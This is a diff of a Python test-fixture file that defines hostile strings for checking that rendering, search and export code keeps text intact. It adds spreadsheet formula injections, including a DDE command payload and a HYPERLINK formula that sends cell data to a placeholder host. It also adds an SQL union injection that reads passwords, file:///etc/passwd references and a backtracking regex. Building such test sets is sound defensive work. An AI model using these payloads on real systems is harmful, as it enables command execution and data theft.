@@ -1,6 +1,38 @@
-"""Texts that broke, or could break, what prints them; each must come out letter for letter."""
+"""Texts that broke, or could break, what shows, prints, searches or exports them; one set for every sink.
+
+Each must come out letter for letter, or after the cleaning the sink documents.
+"""
+
+from stationdesk.core.characters import storable
+
+RARE = "𠮷𡘙㛃䶮㙍垚𬭎𠅤"
+"""Hanzi of people's names that many typefaces lack."""
+
+FORMULAS = (
+    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1",
+    "－1+1", "＠SUM(1)", '=HYPERLINK("http://192.0.2.1/?x="&A1,"点此")', "{=1+1}",
+)  # fmt: skip
+"""What a spreadsheet would take for something to work out."""
 
 HOSTILE: dict[str, str] = {
+    # Markup of Qt's labels, tool tips and buttons
+    "qt document": '<html><body bgcolor="red"><h1>报警</h1></body></html>',
+    "qt table": '<table bgcolor="red"><tr><td width=400>x</td></tr></table>',
+    "qt pre": "<qt><pre>不是代码</pre></qt>",
+    "qt nobr": "<nobr>不换行</nobr>",
+    "qt link": '<a href="https://192.0.2.1/"><img src=":/qt-project.org/styles/images/up-32.png">',
+    "markdown": "# 标题\n![图](file:///etc/passwd) **粗** [链接](http://192.0.2.1/) `码`\n| a |\n|---|",
+    "mnemonics": "&A甲&&乙 &_丙 &",
+    "places of translations": "%1 %2 %L3 %n %% {x} {0} {station} {{y}}",
+    "accelerator tab": "打开\tCtrl+O",
+    "one letter tag": "<b>",
+    "only a tag": "<img src='x'>",
+    # Languages of searches
+    "like wildcards": "100%_[a-z]*?\\%\\_",
+    "full text search": 'NEAR("东" 市) OR -村* ^警 col:值 AND NOT',
+    "sql union": "' UNION SELECT password FROM account --",
+    "sql comment": "/* 甲 */ ; -- 乙 \\'",
+    "regular expression": "(a+)+$ [^x] (?=.*)\\d{1000}",
     # Markup of reportlab's paragraphs, HTML and XML
     "local image": '<img src="file:///etc/passwd" width="100" height="100"/>',
     "windows image": r'<img src="C:\Windows\Web\Screen\img100.jpg"/>',
@@ -56,7 +88,7 @@ HOSTILE: dict[str, str] = {
     "lone surrogates": "前\ud800中\udfff后",
     "non-characters": "前\ufffe\uffff\ufdd0\U0001ffff后",
     "private use": "前\ue000\uf8ff\U000f0000后",
-    "rare hanzi": "𠮷㙍垚㛃䶮𬭎𠅤",
+    "rare hanzi": RARE,
     "variation": "葛\U000e0100城 ☎\ufe0f",
     "emoji": "报警👮‍♂️🚓🔥",
     "combining": "e\u0301 Z\u0351\u0352\u0353\u0354a\u0322lgo",
@@ -73,3 +105,10 @@ HOSTILE: dict[str, str] = {
     "signs": "〔2026〕①②⑩ × ± ％ ‰ ↑↓→ ℃ № ㎡ ¥￥ ≥≤ — ～",
     "lost": "\ufffd",
 }
+
+HOSTILE |= {f"formula {number}": text for number, text in enumerate(FORMULAS)}
+
+
+def kept(text: str, most: int) -> str:
+    """What a record keeps of a text that was typed into a field with room for `most` characters."""
+    return storable(text[:most].strip())
